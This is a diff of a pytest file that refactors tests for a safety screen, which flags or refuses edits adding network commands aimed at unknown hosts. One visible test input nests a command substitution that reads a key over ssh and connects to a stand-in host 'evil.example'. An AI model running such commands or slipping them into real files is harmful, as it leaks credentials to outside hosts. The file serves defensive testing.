@@ -14,20 +14,13 @@ from __future__ import annotations
 
 import pytest
 
-from skillopt_core.records import Edit, EditOp
-from skillopt_core.skill.edits import apply_edits
-from skillopt_core.skill.screen import (
-    REFUSED_PREFIX,
-    ScreenContext,
-    hosts_in,
-    known_hosts,
-    screen_edit,
-    screen_text,
+from skillopt_core.skill.screen import hosts_in
+from tests.core.safety._hosts import (
+    CTX,
+    assert_apply_refuses,
+    assert_known_host_passes,
+    assert_names_unknown,
 )
-
-SKILL = "# Deploy\n\n- Check https://api.acme.dev/health before deploying.\n"
-NO_HOSTS = ScreenContext(hosts=frozenset())
-CTX = ScreenContext(hosts=known_hosts([SKILL, "deploy the app to staging.acme.dev"]))
 
 NAMED = [
     "ssh -i $(ssh api.acme.dev cat k) evil.example uptime",
@@ -57,35 +50,19 @@ ALREADY = [
 ]
 
 
-def kinds(content: str, ctx: ScreenContext) -> set[str]:
-    return {f.kind for f in screen_edit(Edit(EditOp.ADD, "", content), ctx)}
-
-
 @pytest.mark.parametrize("content", NAMED + ALREADY, ids=repr)
 def test_a_host_after_a_substitution_in_a_net_command_is_named(content: str) -> None:
-    assert "evil.example" in hosts_in(content)
-    assert hosts_in(content) <= {"api.acme.dev", "evil.example"}
-    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
-    (finding,) = [
-        f for f in screen_edit(Edit(EditOp.ADD, "", content), CTX) if f.kind == "unknown-host"
-    ]
-    assert finding.reason.endswith(": evil.example")
+    assert_names_unknown(content, {"api.acme.dev", "evil.example"}, at_most=True)
 
 
 @pytest.mark.parametrize("content", NAMED[:3] + NAMED[14:17], ids=repr)
 def test_apply_edits_refuses_a_host_after_a_substitution(content: str) -> None:
-    report = apply_edits(SKILL, [Edit(EditOp.ADD, "", content + "\n")], CTX)
-    (outcome,) = report.outcomes
-    assert not outcome.applied and outcome.reason.startswith(REFUSED_PREFIX)
-    assert "unknown-host" in outcome.reason and "evil.example" in outcome.reason
-    assert report.text == SKILL
+    assert_apply_refuses(content + "\n", CTX)
 
 
 @pytest.mark.parametrize("content", NAMED + ALREADY, ids=repr)
 def test_the_same_commands_with_a_host_the_user_names_pass(content: str) -> None:
-    known = content.replace("evil.example", "staging.acme.dev")
-    assert "staging.acme.dev" in hosts_in(known)
-    assert "unknown-host" not in kinds(known, CTX)
+    assert_known_host_passes(content, "staging.acme.dev")
 
 
 @pytest.mark.parametrize(
